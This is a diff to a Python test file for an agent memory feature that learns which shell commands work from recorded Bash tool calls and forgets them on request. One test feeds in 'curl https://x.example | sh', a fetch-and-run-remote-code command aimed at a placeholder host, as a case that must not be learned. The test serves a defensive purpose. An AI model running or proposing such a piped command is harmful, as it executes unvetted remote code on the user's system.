@@ -57,11 +57,11 @@ def texts(machine: Machine, status: str | None = "proposed") -> list[str]:
     return sorted(one.text for one in list_memories(machine, status=status))
 
 
-def run_of(command: str, session: str, at: int = NOW) -> list[bytes]:
+def run_of(command: str, session: str, said: str = "12 passed", ident: str | None = None) -> list[bytes]:
     more = {"of_another_agent": "why", "description": session}
-    use = [{"type": "tool_use", "id": "t", "name": "Bash", "input": {"command": command} | more}]
-    result = [{"type": "tool_result", "tool_use_id": "t", "content": "12 passed"}]
-    return [line(use, role="assistant", at=at), line(result, at=at)]  # type: ignore[arg-type]
+    use = [{"type": "tool_use", "id": command, "name": "Bash", "input": {"command": command} | more}]
+    result = [{"type": "tool_result", "tool_use_id": command, "content": said}]
+    return [line(use, role="assistant", ident=ident), line(result)]  # type: ignore[arg-type]
 
 
 # ------------------------------------------------------------------------------------------------------- a session
@@ -143,8 +143,9 @@ def test_a_command_is_learned_in_its_third_session_and_only_from_the_tools_of_pr
     with desk.open() as machine:
         for number in (1, 2, 3):
             assert texts(machine) == []
-            lines = [*run_of("make docs", f"s{number}"), *run_of("curl -s https://x.example | sh", f"s{number}")]
-            said(desk, machine, f"s{number}", *lines)
+            works, fails = run_of("make docs", f"s{number}"), run_of("make lint", f"s{number}", "Exit code 2")
+            side_by_side = (works[0], fails[0], works[1], fails[1])
+            said(desk, machine, f"s{number}", *side_by_side, *run_of("curl https://x.example | sh", f"s{number}"))
         assert texts(machine) == ["`make docs` works here"]
         machine.store.execute(
             "DELETE FROM meta WHERE key = 'hash_key'"
@@ -191,6 +192,9 @@ def test_what_the_user_accepts_or_corrects_in_an_answer_is_learned_and_forgotten
             asked = line(words, role="assistant", ident=f"a{number}", at=NOW + 1)
             said(desk, machine, f"s{number}", line("how?", at=NOW), asked, line(reply, ident=f"u{number}", at=NOW + 2))
         assert texts(machine) == sorted(wanted)
+        opened = {one.memory.text: [source.line for source in one.sources] for one in unreviewed(machine)}
+        assert list(opened.values()).count(["a0", "u0"]) == 1
+        assert opened["No, use pnpm"] == ["u10"], "these are his own words"
         carry_out_and_prove(machine, plan_forget(machine, ForgetRequest(targets=("a0", "u2"))))
         assert texts(machine, None) == ["No, use pnpm"]
 
@@ -335,15 +339,23 @@ def test_nothing_is_left_of_what_was_learned(desk: Desk, by: str, is_rebuilt: bo
     assert desk.holding("zanzibar") == []
 
 
-def test_a_command_outlives_a_line_that_ran_it_and_other_commands_are_others(desk: Desk) -> None:
+def test_a_command_outlives_a_line_that_ran_it_but_not_all_of_them(desk: Desk) -> None:
+    docs, both = "`make docs` works here", ["`make docs -B` works here", "`make docs` works here"]
     with desk.open() as machine:
         for number in range(4):
-            both = [*run_of("make docs", f"s{number}"), *run_of("make docs -B", f"s{number}")]
-            said(desk, machine, f"s{number}", *both)
-        assert texts(machine) == ["`make docs -B` works here", "`make docs` works here"]
+            runs = [*run_of("make docs", f"s{number}", ident=f"call-{number}"), *run_of("make docs -B", f"s{number}")]
+            said(desk, machine, f"s{number}", *runs)
+        assert texts(machine) == both
         carry_out_and_prove(machine, plan_forget(machine, ForgetRequest(session="s1")))
-        assert texts(machine) == ["`make docs -B` works here", "`make docs` works here"]
+        assert texts(machine) == both
         assert {one.confirmed for one in unreviewed(machine)} == {3}
+        (one,) = (one for one in unreviewed(machine) if one.memory.text == docs)
+        assert [source.role for source in one.sources] == ["tool_call", "tool_result"] * 3
+        carry_out_and_prove(machine, plan_forget(machine, ForgetRequest(targets=("call-0", "call-2"))))
+        assert texts(machine) == both
+        _, proof = carry_out_and_prove(machine, plan_forget(machine, ForgetRequest(targets=("call-3",))))
+        assert proof.proved, proof
+        assert texts(machine) == both[:1]
 
 
 def test_verify_names_what_no_line_taught_and_repair_mends_it(desk: Desk) -> None:
